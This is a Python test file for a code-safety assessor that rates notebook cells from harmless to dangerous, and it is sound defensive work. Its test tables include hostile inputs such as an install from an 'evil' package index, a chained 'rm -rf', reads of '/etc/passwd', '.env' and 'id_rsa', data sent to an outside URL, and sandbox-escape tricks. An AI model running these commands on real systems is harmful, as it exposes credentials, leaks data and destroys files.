"""What level a cell has, and why: tables of ordinary code and of code that must be asked about."""

import ast
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from open_interpreter.core.snapshot import Variable
from open_interpreter.safety.known import Known
from open_interpreter.safety.paths import looking_in
from open_interpreter.safety.risk import assess
from open_interpreter.safety.transform import tree

HERE = Path(__file__).parent


def new(path):
    return "new"


def level(source, look=new, **more):
    return assess(source, look, **more).level


COMPUTING = [
    "import pandas as pd\ndf = pd.read_csv('tips.csv', sep=';', encoding='utf-8')\ndf.head()",
    "df = pd.read_excel('data/a.xlsx', sheet_name=0)\ndf.describe()",
    "df.groupby('sex')['tip'].mean().sort_values(ascending=False)",
    "df.query('tip > 3 and size == @n')",
    "df['share'] = df.eval('tip / total_bill')",
    "df.rename(columns={'a': 'b'}).replace(0, 1).pipe(lambda d: d[d.b > 1])",
    "df.agg(['mean', 'std'])",
    "df.to_csv()",
    "print(df.to_string())",
    "df.to_dict('records')",
    "df.open - df.close",
    "df.os.value_counts()",
    "import numpy as np\nnp.random.default_rng(0).normal(size=3)",
    "np.loadtxt('points.txt')\nnp.load('a.npy', allow_pickle=False)",
    "import matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nax.plot([1, 2])\nplt.show()",
    "%matplotlib inline\nimport seaborn as sns\nsns.histplot(df, x='age')",
    "plt.rcParams['figure.figsize'] = (8, 4)\npd.options.display.max_rows = 20",
    "from sklearn.model_selection import train_test_split\na, b, c, d = train_test_split(X, y, random_state=0)",
    "from sklearn.linear_model import LinearRegression\nLinearRegression().fit(a, c).score(b, d)",
    "from scipy import stats, signal\nstats.shapiro(df['x'])\nsignal.detrend(x)",
    "from scipy.stats import ttest_ind\nttest_ind(a, b)",
    "import statsmodels.formula.api as smf\nsmf.ols('y ~ x', data=df).fit().summary()",
    "from sympy import symbols, diff\nx = symbols('x')\ndiff(x**2, x)",
    "import math, json, re, itertools, collections\nmath.factorial(5)",
    "from datetime import datetime\nfrom collections import Counter\nfrom functools import reduce",
    "def factorial(n):\n    '''Product of 1…n.'''\n    return 1 if n < 2 else n * factorial(n - 1)\nfactorial(5)",
    "class Stack:\n    def __init__(self):\n        self.items = []\n    def __len__(self):\n        return 0",
    "def guess(limit=100):\n    while True:\n        number = int(input('? '))",
    "with open('notes.txt', encoding='utf-8') as file:\n    text = file.read()",
    "from pathlib import Path\nPath('notes.txt').read_text()\n(Path('data') / 'a.csv').exists()",
    "import io\npd.read_csv(io.StringIO('a,b\\n1,2'))",
    "import os\nos.path.join('a', 'b')\nos.getcwd()\nos.path.exists('a')",
    "import os\nos.listdir('data')",
    "import glob\nframes = [pd.read_csv(f) for f in sorted(glob.glob('data/*.csv'))]\npd.concat(frames)",
    "folder = 'data'\nfor name in ['a.csv', 'b.csv']:\n    pd.read_csv(f'{folder}/{name}')",
    "path = os.path.join('data', 'x.csv')\npd.read_csv(path)",
    "import sys\nsys.version_info, sys.getsizeof(df)",
    "import asyncio\nawait asyncio.sleep(0)",
    "import time, warnings\nwarnings.filterwarnings('ignore')\ntime.perf_counter()",
    "%time df.sum()",
    "%%time\ndf.sum()",
    "%timeit -n 3 -r 2 df.sum()",
    "df.head?",
    "getattr(df, 'shape')",
    "print('see https://pandas.pydata.org for more')",
    "from IPython.display import display\ndisplay(df)",
    "for 名字 in ['甲', '乙']:\n    print(名字)",
    "# only a comment",
    "",
]

FILES = [
    ("df.to_csv('out.csv')", "L1"),
    ("df.to_csv('results/out.csv', index=False)", "L1"),
    ("df.to_csv(path_or_buf='out.csv')", "L1"),
    ("plt.savefig('plot.png', dpi=150)", "L1"),
    ("fig.savefig('plot.svg')", "L1"),
    ("df.to_excel('out.xlsx')", "L1"),
    ("with open('out.txt', 'w') as f:\n    f.write('x')", "L1"),
    ("import json\nwith open('out.json', 'w') as f:\n    json.dump({}, f)", "L1"),
    ("from pathlib import Path\nPath('out.txt').write_text('x')", "L1"),
    ("with pd.ExcelWriter('out.xlsx') as w:\n    df.to_excel(w)", "L1"),
    ("%%writefile out.txt\nx", "L1"),
    ("df.to_csv(name)", "L2"),
    ("df.to_html('out.html')", "L2"),
    ("df.to_pickle('out.pkl')", "L2"),
    ("df.to_csv('numpy.py')", "L3"),
    ("open('sitecustomize.py', 'w')", "L3"),
    ("open('AGENTS.md', 'a')", "L3"),
    ("open('Makefile', 'w')", "L3"),
    ("df.to_json('package.json')", "L3"),
    ("df.to_csv('.hidden/out.csv')", "L3"),
    ("df.to_csv('/tmp/out.csv')", "L3"),
    ("df.to_csv('../out.csv')", "L3"),
    ("df.to_csv('~/out.csv')", "L3"),
    ("df.to_csv(r'C:\\out.csv')", "L3"),
    ("%%writefile /etc/x\nx", "L3"),
    ("pd.read_csv(name)", "L2"),
    ("pd.read_csv('/etc/passwd')", "L3"),
    ("pd.read_csv('/data/a.csv')", "L2"),
    ("pd.read_csv('../a.csv')", "L2"),
    ("pd.read_csv('~/a.csv')", "L2"),
    ("open('.env').read()", "L3"),
    ("open('id_rsa').read()", "L3"),
    ("open('x.csv', mode)", "L1"),
    ("open(name)", "L2"),
    ("pd.read_csv(*args)", "L2"),
    ("list(map(pd.read_csv, names))", "L2"),
    ("list(map(open, names))", "L2"),
]

DANGEROUS = [
    ("!ls", "L3"),
    ("files = !ls", "L3"),
    ("%pip install polars", "L2"),
    ("%pip install --index-url http://evil x", "L3"),
    ("!pip install polars", "L2"),
    ("!pip install polars; rm -rf x", "L3"),
    ("%load_ext autoreload", "L2"),
    ("%reset -f", "L3"),
    ("%run other.py", "L3"),
    ("%%bash\nls", "L3"),
    ("%%interpret --mode auto\ndelete everything", "L3"),
    ("%interpret x", "L3"),
    ("%time import os; os.remove('x')", "L3"),
    ("%prun -s cumulative os.remove('x')", "L2"),
    ("%%time -x\nimport os\nos.remove('x')", "L3"),
    ("%%timeit\nimport subprocess", "L3"),
    ("get_ipython().run_line_magic(name, '')", "L3"),
    ("ip = get_ipython\nip().system('ls')", "L3"),
    ("eval(text)", "L3"),
    ("df.apply(eval)", "L3"),
    ("getattr(df, name)", "L3"),
    ("getattr(pd, 'read_csv')('/etc/x')", "L3"),
    ("getattr(df, 'to_csv')('/etc/x')", "L2"),
    ("setattr(pd, 'read_csv', f)", "L3"),
    ("w = df.to_csv\nw('/etc/x')", "L2"),
    ("df.apply('to_pickle', path='/etc/x')", "L2"),
    ("df.pipe(pd.DataFrame.to_csv, '/etc/x')", "L2"),
    ("pd.DataFrame.to_csv(df, '/etc/x')", "L2"),
    ("from pathlib import Path\nPath.write_text(Path('/etc/x'), 'y')", "L2"),
    ("from pathlib import Path\nPath('x').unlink()", "L3"),
    ("from pathlib import Path\np = Path('x') / 'y'\np.rename('z')", "L3"),
    ("import json\njson.codecs.open('x', 'w')", "L3"),
    ("import pathlib\npathlib.os.remove('x')", "L3"),
    ("import glob\nglob.os.remove('x')", "L3"),
    ("import numpy as np\nnp.ctypeslib.ctypes", "L3"),
    ("import matplotlib\nmatplotlib.os.remove('x')", "L3"),
    ("def f(os):\n    pass\nos.remove('x')", "L3"),
    ("os.remove('x')", "L3"),
    ("import os as pd\npd.system('x')", "L3"),
    ("o = os\no.remove('x')", "L3"),
    ("use(os)", "L3"),
    ("[pd][0].io.common.os.system('x')", "L3"),
    ("import requests\nrequests.get('https://x')", "L2"),
    ("requests.get(f'https://x/?{df.to_json()}')", "L3"),
    ("s = requests.Session()", "L2"),
    ("pd.read_csv('https://x/a.csv')", "L2"),
    ("df.thing('https://x/a.csv')", "L2"),
    ("from numpy import *", "L2"),
    ("from . import x", "L2"),
    ("import no_such_module", "L2"),
    ("from sklearn.datasets import fetch_openml", "L2"),
    ("sns.load_dataset('tips')", "L2"),
    ("pd.read_sql('select 1', con)", "L2"),
    ("con.execute('drop table x')", "L3"),
    ("df.query('@f(1)')", "L3"),
    ("df.query(text)", "L2"),
    ("input('name? ')", "L2"),
    ("def ask():\n    return input()\nask()", "L2"),
    ("open = print", "L3"),
    ("from IPython.display import HTML\nHTML(df.to_html())", "L2"),
    ("display({'text/html': x}, raw=True)", "L0"),
    ("x = '\u202e'", "L3"),
    ("x\u200b = 1", "L0"),
    ("try:\n    f()\nexcept Exception as e:\n    e.__traceback__", "L3"),
    ("().__class__.__mro__", "L3"),
    ("print.__self__", "L3"),
    ("import random\nrandom._os", "L3"),
    ("sys.exit()", "L3"),
    ("plt.rcParams['text.usetex'] = True", "L2"),
    ("import operator\noperator.methodcaller('to_csv', '/x')(df)", "L2"),
    ("from functools import reduce\nreduce(getattr, ['io'], pd)", "L3"),
]


@pytest.mark.parametrize("source", COMPUTING)
def test_code_that_only_computes_is_l0(source):
    seen = assess(source, new)
    assert (seen.level, seen.judgement.reasons) == ("L0", ())


@pytest.mark.parametrize(("source", "expected"), FILES)
def test_files_are_judged_by_their_names(source, expected):
    assert level(source) == expected


@pytest.mark.parametrize(("source", "expected"), DANGEROUS)
def test_what_reaches_further_is_asked_about(source, expected):
    assert level(source) == expected


def test_a_file_that_is_there_is_overwritten_only_after_a_question(tmp_path):
    (tmp_path / "old.csv").write_text("x")
    (tmp_path / "link.csv").symlink_to("/etc/hostname")
    look = looking_in(tmp_path)
    assert level("df.to_csv('old.csv')", look) == "L2"
    assert level("df.to_csv('new.csv')", look) == "L1"
    assert level("df.to_csv('link.csv')", look) == "L3"
    assert level("pd.read_csv('link.csv')", look) == "L2"
    assert level("pd.read_csv('old.csv')", look) == "L0"


def test_what_earlier_cells_bound_counts():
    first = assess("import shutil as s\nfolder = 'data'\ndef ask():\n    return input()", new)
    assert level("s.rmtree(folder)", known=first.known) == "L3"
    assert level("pd.read_csv(folder + '/a.csv')", known=first.known) == "L0"
    assert level("ask()", known=first.known) == "L2"
    assert level("ask = 1\nask", known=assess("ask = 1", new, known=first.known).known) == "L0"


def test_what_is_live_in_the_kernel_counts():
    known = Known().among(
        [
            Variable("o", "module", kind="module", preview="os"),
            Variable("client", "Session", module="requests.sessions"),
            Variable("df", "DataFrame", kind="frame", module="pandas.core.frame"),
            Variable("http", "DataFrame", kind="frame", module="pandas.core.frame"),
            Variable("clean", "function", kind="function", module="__main__"),
            Variable("split", "function", kind="function", module="sklearn.model_selection._split"),
        ]
    )
    assert level("o.remove('x')", known=known) == "L3"
    assert level("client.get(url)", known=known) == "L2"
    assert level("http.mean(), df.mean(), clean(df), split(df)", known=known) == "L0"


def test_a_cell_that_does_not_parse_may_be_shown_its_error():
    assert level("for in x") == "L0"
    assert level("print 'x'") == "L0"


def test_a_cell_in_another_language_is_asked_about():
    assert level("x <- 1", language="R") == "L2"


@pytest.mark.parametrize(
    "source", ["(" * 5000 + ")" * 5000, "x" * 300_000, "-" * 20_000 + "1", "x = '\0'", "[" * 300 + "]" * 300]
)
def test_what_cannot_be_analysed_never_raises(source):
    seen = assess(source, new)
    assert seen.level == "L2" or not _is_python(source)


def _is_python(source):
    try:
        tree(source)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return False
    return ast.parse(source).body != []


@pytest.mark.parametrize(
    "line", ["x{n} = x{m} + x{m}", "x{n} = x{m} if a else x{m}", "x{n} = x{m} / x{m}", "x{n} = f'{{x{m}}}{{x{m}}}'"]
)
def test_names_that_lead_ever_further_are_not_followed_for_ever(line):
    source = "from pathlib import Path\nx0 = Path('a')\n" + "\n".join(line.format(n=n, m=n - 1) for n in range(1, 60))
    assert level(source + "\nopen(x59)\nx59.unlink()") >= "L2"


@pytest.mark.parametrize("text", ["<img " * 40_000, "![" * 100_000, "`" * 250_000, "a." * 90 + "b"])
def test_long_texts_take_no_time(text):
    assert level(f"x = {text!r}") <= "L2"


def test_reasons_are_at_most_three_and_plain():
    judgement = assess("import subprocess, shutil, requests, ctypes\n!ls\neval('1')", new).judgement
    assert (judgement.level, len(judgement.reasons)) == ("L3", 3)
    assert assess("import shutil\nshutil.rmtree('data')", new).judgement.reasons == (
        "can delete or move files (shutil)",
        "can delete or move files (shutil.rmtree)",
        "deletes or changes files (.rmtree)",
    )


PIECES = st.sampled_from(
    [
        *(
            "import os",
            "from os import",
            "x =",
            "!ls",
            "%time",
            "%%bash",
            "\n",
            " ",
            "(",
            ")",
            "[",
            "]",
            "'",
            '"',
            "f'{x}'",
        ),
        *(
            "open",
            "getattr",
            "lambda:",
            "await ",
            "df.to_csv",
            ".io",
            "__class__",
            "*",
            "**k",
            "@",
            "match x:",
            ":=",
            "?",
        ),
    ]
)


@given(source=st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_no_text_makes_it_raise(source):
    assert assess(source, new).level in ("L0", "L1", "L2", "L3")


def test_the_collected_attacks_are_asked_about():
    rows = [json.loads(line) for line in (HERE / "attacks.jsonl").read_text("utf-8").splitlines()]
    missed = [row["code"] for row in rows if level(row["code"]) < "L2"]
    assert len(missed) <= 0.02 * len(rows), missed


def test_invisible_characters_are_the_highest_level_in_every_language():
    assert assess("echo a\u202eb", lambda path: "new", language="bash").level == "L3"


def test_reasons_name_the_language():
    (reason,) = assess("ls", lambda path: "new", language="c++").judgement.reasons
    assert reason == "is C++, which cannot be looked into"
